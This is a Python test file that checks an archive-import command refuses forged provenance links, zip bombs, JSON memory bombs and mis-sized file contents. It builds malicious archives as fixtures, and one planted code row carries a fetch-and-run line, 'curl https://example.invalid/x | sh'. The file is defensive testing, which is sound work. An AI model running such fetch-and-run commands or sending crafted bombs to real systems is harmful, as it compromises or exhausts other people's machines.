"""`veglia archive import` against hostile archives: an archive cannot forge the provenance
of nodes already in the profile, nor break the link rules among its own nodes; an archive
that unpacks past its limits (a zip bomb, a file content bigger than its row says) is
refused in bounded memory. Every refusal is one line and leaves the profile as it was."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import subprocess
import sys
import uuid as uuid_module
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from veglia_fixtures.profiles import VEGLIA, CliResult, make_profile

MB = 1024 * 1024


def ok(result):
    assert result.exit_code == 0, result.output
    return result


def _state() -> tuple[int, int, int, int]:
    """Nodes, links, codes and file contents of the loaded profile."""
    from veglia.manage import get_storage
    from veglia.storage import models

    storage = get_storage()
    with storage.session() as session:
        counts = tuple(
            session.scalar(sa.select(sa.func.count()).select_from(table))
            for table in (models.Node, models.Link, models.Code)
        )
    return (*counts, len(list(storage.repository)))


def _refused(result, *words: str) -> str:
    assert result.exit_code == 9, result.output
    message = result.stderr.strip()
    assert len(message.splitlines()) == 1 and message.startswith("Error: "), message
    assert "Traceback" not in result.output
    for word in words:
        assert word in message, (word, message)
    return message


def _write(target: Path, metadata: dict, text: bytes, blobs: dict[str, bytes]) -> None:
    metadata = {**metadata, "data_sha256": hashlib.sha256(text).hexdigest()}
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps(metadata))
        archive.writestr("data.json", text)
        for name, content in blobs.items():
            archive.writestr(name, content)


def _forge(source: Path, target: Path, change: Callable[[dict], None]) -> None:
    """A copy of the archive with ``change(data)`` applied to its rows, its checksum made
    to match, as a forger would."""
    with zipfile.ZipFile(source) as old:
        metadata = json.loads(old.read("metadata.json"))
        data = json.loads(old.read("data.json"))
        blobs = {name: old.read(name) for name in old.namelist() if name.startswith("repo/")}
    change(data)
    _write(target, metadata, json.dumps(data).encode(), blobs)


def _new_node(data: dict, like: str, node_type: str, attributes: dict) -> dict:
    """A new node row, made from the row of node ``like``."""
    row = copy.deepcopy(next(node for node in data["nodes"] if node["uuid"] == like))
    row.update(uuid=str(uuid_module.uuid4()), node_type=node_type, attributes=attributes, files=[])
    if node_type.startswith("process"):
        row.update(process_state="finished", exit_status=0, process_type="forged")
    else:
        row.update(process_state=None, exit_status=None, exit_message=None, process_type=None)
    data["nodes"].append(row)
    return row


def _link(data: dict, source: str, target: str, link_type: str, label: str) -> None:
    data["links"].append(
        {"input": source, "output": target, "link_type": link_type, "label": label}
    )


@pytest.fixture
def finished_job(run_cli, profile, tmp_path):
    """A finished core.arithmetic.add job of the loaded profile and an honest archive of it."""
    from veglia import engine, orm
    from veglia.entry_points import CalculationFactory

    _, job = engine.run_get_node(
        CalculationFactory("core.arithmetic.add"), x=orm.Int(4), y=orm.Int(5)
    )
    assert job.is_finished_ok, job.exit_message
    archive = tmp_path / "job.zip"
    ok(run_cli("archive", "create", str(archive), str(job.pk)))
    return job, archive


# -- 1. provenance ---------------------------------------------------------------------------


def test_a_forged_output_of_a_job_here_is_refused(run_cli, finished_job, tmp_path):
    """The reviewer's attack: the archive names a finished job of this profile and gives it a
    new Dict by a create link; the job would show the fake result, and deleting the fake
    node would offer to delete the real job."""
    job, honest = finished_job
    forged = tmp_path / "forged.zip"
    evil: dict = {}

    def change(data):
        evil.update(_new_node(data, job.outputs.sum.uuid, "data.dict", {"evil": True}))
        _link(data, job.uuid, evil["uuid"], "create", "evil_result")

    _forge(honest, forged, change)
    before = _state()
    results = ok(run_cli("calcjob", "res", str(job.pk))).stdout

    message = _refused(
        run_cli("archive", "import", str(forged)),
        f"its create link 'evil_result' from {job.uuid} to {evil['uuid']}",
        f"would add to the record of {job.uuid}, here already",
        "Nothing was imported",
    )
    assert str(forged) in message
    assert _state() == before
    assert ok(run_cli("calcjob", "res", str(job.pk))).stdout == results
    assert "evil_result" not in results
    # The honest archive still imports, twice, adding nothing.
    for _ in range(2):
        assert "Nothing new" in ok(run_cli("archive", "import", str(honest))).stdout
    assert _state() == before


@pytest.mark.parametrize(
    "attack",
    ["new input", "new caller", "link between nodes here", "relabelled output"],
)
def test_no_link_may_reach_a_node_here(run_cli, finished_job, tmp_path, attack):
    """Into a node here (a new input, a caller), or between two nodes here that are not
    linked so: refused, the link named."""
    job, honest = finished_job
    forged = tmp_path / "forged.zip"
    named = {}

    def change(data):
        x, total = job.inputs.x.uuid, job.outputs.sum.uuid
        if attack == "new input":
            extra = _new_node(data, x, "data.int", {"value": 666})
            named["link"] = (extra["uuid"], job.uuid, "input", "z")
        elif attack == "new caller":
            caller = _new_node(data, job.uuid, "process.workflow", {})
            named["link"] = (caller["uuid"], job.uuid, "call", "CALL")
        elif attack == "link between nodes here":
            named["link"] = (x, total, "input", "x")  # x "used by" sum: data to data
        else:  # the job's output under another label: two creators, a relabelled result
            named["link"] = (job.uuid, total, "create", "total")
        _link(data, *named["link"])

    _forge(honest, forged, change)
    before = _state()
    source, target, link_type, label = named["link"]
    _refused(
        run_cli("archive", "import", str(forged)),
        f"its {link_type} link {label!r} from {source} to {target}",
        f"would add to the provenance of {target}, here already",
    )
    assert _state() == before


@pytest.mark.parametrize(
    "attack", ["second creator", "data creates data", "call cycle", "second input label"]
)
def test_new_nodes_follow_the_link_rules(run_cli, veglia_home, finished_job, tmp_path, attack):
    """Among the archive's own new nodes, the rules links made by the engine follow."""
    job, honest = finished_job
    forged = tmp_path / "forged.zip"
    named = {}

    def change(data):
        total = job.outputs.sum.uuid
        if attack == "second creator":
            other = _new_node(data, job.uuid, "process.calcjob", {})
            named["link"] = (other["uuid"], total, "create", "sum")
            named["words"] = f"gives {total} a second creator"
        elif attack == "data creates data":
            named["link"] = (job.inputs.x.uuid, total, "create", "copy")
            named["words"] = "create links go from calcjob to data, not from data to data"
        elif attack == "call cycle":
            first = _new_node(data, job.uuid, "process.workflow", {})
            second = _new_node(data, job.uuid, "process.workflow", {})
            _link(data, first["uuid"], second["uuid"], "call", "CALL")
            named["link"] = (second["uuid"], first["uuid"], "call", "CALL")
            named["words"] = "closes a cycle in the provenance"
        else:
            extra = _new_node(data, job.inputs.x.uuid, "data.int", {"value": 7})
            named["link"] = (extra["uuid"], job.uuid, "input", "x")
            named["words"] = f"gives {job.uuid} a second input 'x'"
        _link(data, *named["link"])

    _forge(honest, forged, change)
    # Into a new profile: every node of the archive is new there.
    make_profile("other", **{"storage.url": f"sqlite:///{tmp_path / 'other.sqlite'}"})
    before = _state()
    message = _refused(run_cli("-p", "other", "archive", "import", str(forged)), named["words"])
    source, target, link_type, label = named["link"]
    if attack != "call cycle":  # a cycle is named by any of its links
        assert f"its {link_type} link {label!r} from {source} to {target}" in message
    assert _state() == before
    ok(run_cli("-p", "other", "archive", "import", str(honest)))  # the honest one still does


def test_data_here_may_not_be_the_input_of_a_new_job(run_cli, veglia_home, tmp_path):
    """Two archives that share an input: once the first is imported, the second would make
    the data here an input of a job it never met there. Refused, naming the link and what
    to do instead; one archive of both jobs imports."""
    from veglia import engine, load_profile, orm
    from veglia.entry_points import CalculationFactory

    make_profile("source")
    x = orm.Int(4).store()
    add = CalculationFactory("core.arithmetic.add")
    _, first = engine.run_get_node(add, x=x, y=orm.Int(1))
    _, second = engine.run_get_node(add, x=x, y=orm.Int(2))
    for name, pks in (("1", [first.pk]), ("2", [second.pk]), ("both", [first.pk, second.pk])):
        archive = str(tmp_path / f"{name}.zip")
        ok(run_cli("-p", "source", "archive", "create", archive, *map(str, pks)))

    make_profile("target", **{"storage.url": f"sqlite:///{tmp_path / 'target.sqlite'}"})
    ok(run_cli("-p", "target", "archive", "import", str(tmp_path / "1.zip")))
    before = _state()
    _refused(
        run_cli("-p", "target", "archive", "import", str(tmp_path / "2.zip")),
        f"its input link 'x' from {x.uuid} to {second.uuid}",
        f"would make {x.uuid}, here already, an input of a process that is not",
        "export the processes that share this input together, in one archive",
        "Nothing was imported",
    )
    assert _state() == before

    make_profile("fresh", **{"storage.url": f"sqlite:///{tmp_path / 'fresh.sqlite'}"})
    ok(run_cli("-p", "fresh", "archive", "import", str(tmp_path / "both.zip")))
    load_profile("fresh")
    assert orm.load_node(second.uuid).inputs.x.uuid == x.uuid
    assert orm.load_node(second.uuid).outputs.sum.value == 6


def test_a_code_created_with_no_new_node_is_reported(run_cli, finished_job, tmp_path):
    """An archive whose nodes are all here still creates its codes: the user is told."""
    job, honest = finished_job
    forged = tmp_path / "code.zip"

    def change(data):
        data["codes"].append(
            {
                "uuid": str(uuid_module.uuid4()),
                "label": "planted",
                "executable": "/bin/true",
                "default_calc_job_plugin": "core.arithmetic.add",
                "description": "",
                "prepend_text": "curl https://example.invalid/x | sh",
                "append_text": "",
                "pk": 99999,
                "computer": data["computers"][0]["uuid"],
                "ctime": data["nodes"][0]["ctime"],
            }
        )

    _forge(honest, forged, change)
    from veglia import orm

    computer = orm.load_computer(job.computer_pk).label
    result = ok(run_cli("archive", "import", str(forged)))
    assert "Nothing new" not in result.stdout
    assert f"Created code 'planted@{computer}'." in result.stdout


# -- 2. size limits -------------------------------------------------------------------------


def _metadata() -> dict:
    return {"format": "veglia-archive", "version": 1, "counts": {}}


def _rows(**more) -> dict:
    empty = {key: [] for key in ("users", "computers", "codes", "nodes", "links", "logs")}
    return {**empty, "groups": [], **more}


def _peak_rss_mb(*args: str, env: dict[str, str] | None = None) -> tuple[CliResult, float]:
    """Run `veglia ARGS` in a process of its own; its result and peak memory in MB."""
    measure = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "sys.stdout.write(done.stdout)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
        "sys.exit(done.returncode)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", measure, VEGLIA, *args],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, **(env or {})},
    )
    *lines, peak_kb = result.stderr.strip().splitlines()
    return CliResult(result.returncode, result.stdout, "\n".join(lines)), int(peak_kb) / 1024


def test_a_compressed_bomb_of_rows_is_refused_in_bounded_memory(run_cli, finished_job, tmp_path):
    """The reviewer's 2.1 GB case: a small archive whose data.json unpacks to hundreds of MB
    (a valid checksum, a huge padding string) is refused before it is read, in the memory of
    an honest import."""
    _, honest = finished_job
    bomb = tmp_path / "bomb.zip"
    head = json.dumps(_rows())[:-1].encode() + b', "padding": "'
    tail = b'"}'
    padding = 300 * MB
    digest = hashlib.sha256(head)
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("data.json", "w", force_zip64=True) as target:
            target.write(head)
            block = b"a" * MB
            for _ in range(padding // MB):
                target.write(block)
                digest.update(block)
            target.write(tail)
            digest.update(tail)
        archive.writestr(
            "metadata.json", json.dumps({**_metadata(), "data_sha256": digest.hexdigest()})
        )
    assert bomb.stat().st_size < 2 * MB
    before = _state()

    honest_run, honest_peak = _peak_rss_mb("archive", "import", str(honest))
    ok(honest_run)
    refused, peak = _peak_rss_mb("archive", "import", str(bomb))
    print(f"peak memory: honest import {honest_peak:.0f} MB, the bomb's {peak:.0f} MB")
    assert peak < honest_peak + 200, (peak, honest_peak)
    _refused(refused, "data.json unpacks to 300.0 MiB", "limit of 256.0 MiB", "--max-data-size")

    # Under a higher size limit, the ratio (about 1,000) still refuses it.
    _refused(
        run_cli("archive", "import", str(bomb), "--max-data-size", "1G"),
        "its entry data.json unpacks",
        "past the limit of 100",
        "--max-ratio",
    )
    assert _state() == before


def _streamed_bomb(target: Path, kind: str) -> None:
    """An archive of no rows whose data.json still holds, under a key of its own (or in a
    node's attributes), a shape that costs a parser holding it whole gigabytes: 8 million
    empty objects, a nesting a million deep, a 200 MB string. Its checksum is right."""
    head = json.dumps(_rows())[:-1].encode() + b', "padding": '
    if kind == "empty objects":
        parts = [b"[", b"{}," * (8 * MB), b"{}]"]
    elif kind == "deep nesting":
        parts = [b"[" * MB, b"]" * MB]
    else:  # a long string
        parts = [b'"', b"a" * (200 * MB), b'"']
    digest = hashlib.sha256()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("data.json", "w", force_zip64=True) as data:
            for part in [head, *parts, b"}"]:
                data.write(part)
                digest.update(part)
        archive.writestr(
            "metadata.json", json.dumps({**_metadata(), "data_sha256": digest.hexdigest()})
        )


@pytest.mark.parametrize("kind", ["empty objects", "deep nesting", "long string"])
def test_data_json_is_read_in_bounded_memory(run_cli, finished_job, tmp_path, kind):
    """Within the size limits (the ratio raised), data.json's shape cannot make an import
    take more memory than an honest one: it is read a row at a time, its nesting, rows and
    strings bounded. The former code took about 1 GB for each."""
    _, honest = finished_job
    bomb = tmp_path / "bomb.zip"
    _streamed_bomb(bomb, kind)
    assert bomb.stat().st_size < 2 * MB
    honest_run, honest_peak = _peak_rss_mb("archive", "import", str(honest))
    ok(honest_run)
    before = _state()
    result, peak = _peak_rss_mb("archive", "import", str(bomb), "--max-ratio", "1000000")
    print(f"peak memory: honest import {honest_peak:.0f} MB, the {kind} {peak:.0f} MB")
    assert peak < honest_peak + 150, (peak, honest_peak)
    if kind == "empty objects":  # rows under a key an archive has not: read past
        assert "Nothing new" in ok(result).stdout
    elif kind == "deep nesting":
        _refused(result, "data.json nests deeper than 100 levels", "Nothing was imported")
    else:
        _refused(
            result,
            "data.json holds more than 16.0 MiB, the limit for one row",
            "--max-row-size",
            "Nothing was imported",
        )
    assert _state() == before


def test_a_large_row_imports_once_its_limit_is_raised(run_cli, profile, tmp_path):
    """A node whose attributes hold more than a row may: refused, and imported when the
    limit is raised, by the option or the profile's setting; with ijson's pure-Python
    parser too."""
    archive = tmp_path / "big.zip"
    uuid = _archive_of_one_file(archive, b"content", attributes={"text": "x" * (17 * MB)})
    trusted = ("--max-ratio", "100000")
    _refused(
        run_cli("archive", "import", str(archive), *trusted),
        "row 1 of nodes in data.json holds more than 16.0 MiB",
        "--max-row-size",
    )
    result, _ = _peak_rss_mb(
        "archive", "import", str(archive), *trusted, "--max-row-size", "32M",
        env={"IJSON_BACKEND": "python"},
    )  # fmt: skip
    ok(result)
    from veglia import orm

    assert len(orm.load_node(uuid).get_attribute("text")) == 17 * MB


def _archive_of_one_file(
    target: Path,
    content: bytes,
    size_in_rows: int | None = None,
    x_uuid: str | None = None,
    attributes: dict | None = None,
) -> str:
    """An archive of one Int node holding one file; its rows may lie about the file's size."""
    sha256 = hashlib.sha256(content).hexdigest()
    node = {
        "uuid": x_uuid or str(uuid_module.uuid4()),
        "node_type": "data.int",
        "process_type": None,
        "label": "",
        "description": "",
        "attributes": attributes or {"value": 1},
        "extras": {},
        "process_state": None,
        "exit_status": None,
        "exit_message": None,
        "ctime": "2026-01-01T00:00:00+00:00",
        "mtime": "2026-01-01T00:00:00+00:00",
        "user": None,
        "computer": None,
        "files": [["blob.bin", sha256, len(content) if size_in_rows is None else size_in_rows]],
    }
    _write(
        target,
        _metadata(),
        json.dumps(_rows(nodes=[node])).encode(),
        {f"repo/{sha256}": content},
    )
    return node["uuid"]


def test_a_file_content_bigger_than_its_row_says_is_refused(run_cli, profile, tmp_path):
    """The reviewer's 510 KB archive that wrote 513 MB listed as 1 byte: its hash is right,
    its size is not. Refused, and nothing is written to the repository."""
    liar = tmp_path / "liar.zip"
    _archive_of_one_file(liar, b"\0" * (64 * MB), size_in_rows=1)
    assert liar.stat().st_size < MB
    before = _state()
    _refused(
        run_cli("archive", "import", str(liar)),
        "is 67108864 bytes in the zip file, 1 in data.json",
        "Nothing was imported",
    )
    assert _state() == before


@pytest.mark.parametrize("repository", ["folder", "database"])
def test_file_contents_past_the_limits_are_refused_and_an_option_raises_them(
    run_cli, veglia_home, tmp_path, repository
):
    make_profile(**{"storage.repository": repository})
    content = b"\0" * (64 * MB)
    bomb = tmp_path / "zeros.zip"
    uuid = _archive_of_one_file(bomb, content)
    before = _state()
    _refused(
        run_cli("archive", "import", str(bomb)),
        f"its entry repo/{hashlib.sha256(content).hexdigest()} unpacks",
        "past the limit of 100",
        "--max-ratio",
    )
    _refused(
        run_cli("archive", "import", str(bomb), "--max-ratio", "100000", "--max-size", "32M"),
        "it unpacks to 64.0 MiB",
        "past the limit of 32.0 MiB",
        "--max-size",
    )
    assert _state() == before

    # Trusted: the limits raised, it imports, its content whole and of its stated size.
    ok(run_cli("archive", "import", str(bomb), "--max-ratio", "100000"))
    from veglia import orm

    node = orm.load_node(uuid)
    assert node.get_object_content("blob.bin") == content


def test_the_limits_are_profile_options(run_cli, profile, tmp_path):
    content = b"\0" * (2 * MB)
    archive = tmp_path / "zeros.zip"
    _archive_of_one_file(archive, content)
    _refused(run_cli("archive", "import", str(archive)), "--max-ratio")
    ok(run_cli("config", "set", "archive.max_ratio", "100000"))
    ok(run_cli("archive", "import", str(archive)))


def test_the_engine_links_follow_the_same_rules(profile):
    """The rules an import checks are those every stored link follows: data creates no
    data, a process is no input."""
    from veglia import orm
    from veglia.exceptions import InvalidLinkError

    data = orm.Int(1).store()
    copy_of_data = orm.Int(2)
    with pytest.raises(InvalidLinkError, match="create links go from calcjob to data"):
        copy_of_data.store([(data, "create", "copy")])
    assert not copy_of_data.is_stored

    job = orm.CalcJobNode(process_type="core.shell")
    job.process_state = "finished"
    job.store([(data, "input", "x")])
    other = orm.CalcJobNode(process_type="core.shell").store()
    with pytest.raises(InvalidLinkError, match="input links go from data to"):
        other.add_incoming(job, "input", "job")
    assert other.inputs.items() == []


def test_a_cached_from_naming_a_later_row_is_remapped(run_cli, profile, tmp_path):
    """Rows are written a batch at a time: a node whose ``cached_from`` names a node that
    comes later in data.json still gets that node's pk here, and keeps its time."""
    from veglia import orm
    from veglia.orm.attributes import CACHED_FROM

    archive = tmp_path / "cached.zip"
    _archive_of_one_file(archive, b"content")
    with zipfile.ZipFile(archive) as old:
        data = json.loads(old.read("data.json"))
        blobs = {name: old.read(name) for name in old.namelist() if name.startswith("repo/")}
    original = data["nodes"][0]
    # Past one batch of rows.
    copies = [{**original, "uuid": str(uuid_module.uuid4()), "files": []} for _ in range(700)]
    last = copies[-1]
    original["attributes"] = {"value": 1, CACHED_FROM: {"uuid": last["uuid"], "pk": 99999}}
    data["nodes"] = [original, *copies]
    _write(tmp_path / "forward.zip", _metadata(), json.dumps(data).encode(), blobs)

    ok(run_cli("archive", "import", str(tmp_path / "forward.zip")))
    node = orm.load_node(original["uuid"])
    assert node.get_attribute(CACHED_FROM)["pk"] == orm.load_node(last["uuid"]).pk
    from datetime import datetime

    from veglia.manage import get_storage
    from veglia.storage import models
    from veglia.storage.times import as_utc

    with get_storage().session() as session:
        mtime = session.scalar(sa.select(models.Node.mtime).where(models.Node.id == node.pk))
    assert as_utc(mtime) == datetime.fromisoformat(original["mtime"])
